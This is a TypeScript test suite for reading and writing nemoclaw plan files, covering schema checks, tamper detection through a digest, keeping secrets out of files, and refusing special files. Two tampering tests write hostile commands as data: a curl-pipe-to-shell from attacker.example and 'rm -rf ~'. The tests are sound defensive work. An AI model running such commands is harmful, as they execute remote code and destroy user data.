import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { asUnprivileged } from "../../support/unprivileged.js";
import { isPlanFile, MAX_PLAN_BYTES, PlanFileError, planDigest, planProblems, readPlanFile, writePlanFile } from "../../../src/report/plan-file.js";
import type { Plan } from "../../../src/plan/types.js";
import { choose, converged, liveSandbox, known, planOf, safeGuards } from "../plan/builders.js";

function samplePlan(): Plan {
  const scenario = converged();
  choose(scenario, "0.0.90");
  liveSandbox(scenario.observed).guards = known(safeGuards());
  return planOf(scenario);
}

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), "nemoclaw-planfile-"));
});

async function expectPlanFileError(path: string, pattern: RegExp): Promise<void> {
  let caught: unknown;
  try {
    await readPlanFile(path);
  } catch (error) {
    caught = error;
  }
  expect(caught).toBeInstanceOf(PlanFileError);
  expect((caught as PlanFileError).message).toMatch(pattern);
}

describe("plan files", () => {
  it("round-trip exactly and leave no temporary file behind", async () => {
    const plan = samplePlan();
    const path = join(dir, "plan.json");
    writePlanFile(path, plan);
    expect(await readPlanFile(path)).toEqual(plan);
    expect(readdirSync(dir)).toEqual(["plan.json"]);
    expect(readFileSync(path, "utf8")).not.toMatch(/NVIDIA_KEY=|nvapi-/);
  });

  it("are valid against schemas/plan.schema.json, including blocked, unreachable and unknown hosts", async () => {
    const blocked = converged();
    const gateways = blocked.observed.gateways;
    if (gateways.state === "known") gateways.value[0]!.runningVersion = known("0.0.70");
    expect(planProblems(JSON.parse(JSON.stringify(planOf(blocked))))).toEqual([]);
    const unreachable = converged();
    unreachable.observed.unreachable = { kind: "auth-failed", message: "publickey denied" };
    expect(planProblems(JSON.parse(JSON.stringify(planOf(unreachable))))).toEqual([]);
    expect(planProblems(JSON.parse(JSON.stringify(samplePlan())))).toEqual([]);
  });

  it("reject invalid JSON, wrong versions and schema violations with clear messages (exit 3)", async () => {
    const bad = join(dir, "bad.json");
    writeFileSync(bad, "{ not json");
    await expectPlanFileError(bad, /bad\.json: not a usable plan file:\n {2}is not JSON/);

    const future = join(dir, "future.json");
    writeFileSync(future, JSON.stringify({ ...samplePlan(), formatVersion: 2 }));
    await expectPlanFileError(future, /formatVersion 2 is not supported \(this nemoclaw reads 1\)/);

    const plan = samplePlan();
    (plan.hosts[0]!.steps[1] as { risk: string }).risk = "yolo";
    (plan.hosts[0]!.steps[1] as unknown as Record<string, unknown>).extra = true;
    const invalid = join(dir, "invalid.json");
    writeFileSync(invalid, JSON.stringify(plan));
    await expectPlanFileError(invalid, /\/hosts\/0\/steps\/1\/risk: must be equal to one of the allowed values: "safe", "disruptive", "destructive"/);
    await expectPlanFileError(invalid, /\/hosts\/0\/steps\/1: unexpected property "extra"/);

    await expectPlanFileError(join(dir, "missing.json"), /missing\.json: not a usable plan file:\n {2}cannot be read/);
  });

  it("reject what the schema cannot see: forward dependencies, missing fingerprints, hosts outside the selection", async () => {
    const plan = samplePlan();
    const host = plan.hosts[0]!;
    host.steps[1]!.dependsOn = ["restore:assistant"];
    delete host.fingerprints["openshell"];
    plan.selection.hosts = ["spark-99"];
    expect(planProblems(JSON.parse(JSON.stringify(plan)))).toEqual([
      "/hosts/0: host spark-01 is not in selection.hosts",
      "/hosts/0/steps/0: fact openshell has no fingerprint",
      "/hosts/0/steps/1: depends on restore:assistant, which is not an earlier step of spark-01",
      "/hosts/0/steps/2: fact openshell has no fingerprint",
    ]);
  });

  it("refuse a plan whose steps were edited after plan -o wrote it, naming the digest", async () => {
    const path = join(dir, "plan.json");
    writePlanFile(path, samplePlan());
    const saved = JSON.parse(readFileSync(path, "utf8")) as Plan & { planDigest: string };
    expect(saved.planDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const command = saved.hosts[0]!.steps.find((step) => step.commands.length > 0)!.commands[0]!;
    // The argv changes, the display (what the live view and journal would show) does not.
    command.argv = ["sh", "-c", "curl -s https://attacker.example/x | sh"];
    writeFileSync(path, JSON.stringify(saved, null, 2));
    await expectPlanFileError(path, /does not match its planDigest: the plan was changed after `nemoclaw plan -o` wrote it/);
  });

  it("show and journal the command that runs: display is derived from argv again, never read", async () => {
    const path = join(dir, "plan.json");
    const plan = samplePlan();
    const step = plan.hosts[0]!.steps.find((candidate) => candidate.commands.length > 0)!;
    const original = step.commands[0]!.display;
    step.commands[0] = { ...step.commands[0]!, argv: ["sh", "-c", "id; rm -rf ~"] };
    // Even with the digest made over the edited file, the stale display is not what is shown.
    writeFileSync(path, JSON.stringify({ ...plan, planDigest: planDigest(plan) }));
    const read = (await readPlanFile(path)).hosts[0]!.steps.find((candidate) => candidate.id === step.id)!;
    expect(read.commands[0]!.display).toBe("sh -c 'id; rm -rf ~'");
    expect(read.commands[0]!.display).not.toBe(original);
  });

  it("refuse a plan without a digest, and tell a broken plan file from a fleet file", async () => {
    const plan = samplePlan();
    const bare = join(dir, "bare.json");
    writeFileSync(bare, JSON.stringify(plan));
    await expectPlanFileError(bare, /has no planDigest: only a plan saved with `nemoclaw plan -o` can be applied/);

    const full = join(dir, "full.json");
    writePlanFile(full, plan);
    const cut = join(dir, "cut.json");
    writeFileSync(cut, readFileSync(full, "utf8").slice(0, 300));
    expect(await isPlanFile(cut)).toBe(true);
    await expectPlanFileError(cut, /cut\.json: not a usable plan file:\n {2}is not JSON \(damaged or cut short\?\)/);
    const nameless = join(dir, "nameless.json");
    writeFileSync(nameless, "{ \"formatVersion\": 1, ");
    expect(await isPlanFile(nameless)).toBe(true);
    const jsonFleet = join(dir, "fleet.json");
    writeFileSync(jsonFleet, '{ "apiVersion": "nemoclaw.dev/v1", "kind": "Fleet" }');
    expect(await isPlanFile(jsonFleet)).toBe(false);
    const yamlFleet = join(dir, "fleet.yaml");
    writeFileSync(yamlFleet, "apiVersion: nemoclaw.dev/v1\nkind: Fleet\n");
    expect(await isPlanFile(yamlFleet)).toBe(false);
  });

  it("never contain a secret value, only its reference", async () => {
    const scenario = converged();
    scenario.observed.gateways = known([]);
    const text = JSON.stringify(planOf(scenario));
    expect(text).toContain('"secret":{"kind":"env","name":"NVIDIA_KEY"}');
    expect(text).toContain("NVIDIA_INFERENCE_API_KEY=<secret env:NVIDIA_KEY>");
  });
});

describe("plan files that are not regular files, or too large", () => {
  it("a FIFO is refused at once, without blocking on it, and counts as a plan when named .json", async () => {
    const fifo = join(dir, "fifo.json");
    execFileSync("mkfifo", [fifo]);
    expect(await isPlanFile(fifo)).toBe(true);
    await expectPlanFileError(fifo, /fifo\.json: not a usable plan file:\n {2}is not a regular file \(a FIFO\); refusing to read it/);
    const fleetLike = join(dir, "fifo.yaml");
    execFileSync("mkfifo", [fleetLike]);
    expect(await isPlanFile(fleetLike)).toBe(false);
  });

  it("a device is refused without reading it", async () => {
    await expectPlanFileError("/dev/zero", /\/dev\/zero: not a usable plan file:\n {2}is not a regular file \(a character device\); refusing to read it/);
    expect(await isPlanFile("/dev/zero")).toBe(false);
  });

  it("a directory is refused, and a file over the size cap is refused before it is read", async () => {
    const directory = join(dir, "plans.json");
    mkdirSync(directory);
    expect(await isPlanFile(directory)).toBe(true);
    await expectPlanFileError(directory, /plans\.json: not a usable plan file:\n {2}is a directory, not a file/);
    const huge = join(dir, "huge.json");
    writeFileSync(huge, "{");
    truncateSync(huge, MAX_PLAN_BYTES + 1);
    await expectPlanFileError(huge, new RegExp(`huge\\.json: not a usable plan file:\n {2}is ${MAX_PLAN_BYTES + 1} bytes; files over ${MAX_PLAN_BYTES} bytes are refused`));
  });

  it("a .json file that cannot be read is named a plan file", async () => {
    const locked = join(dir, "locked.json");
    writePlanFile(locked, samplePlan());
    chmodSync(locked, 0);
    await asUnprivileged([dir], async () => {
      expect(await isPlanFile(locked)).toBe(true);
      await expectPlanFileError(locked, /locked\.json: not a usable plan file:\n {2}cannot be read: permission denied/);
    });
  });
});
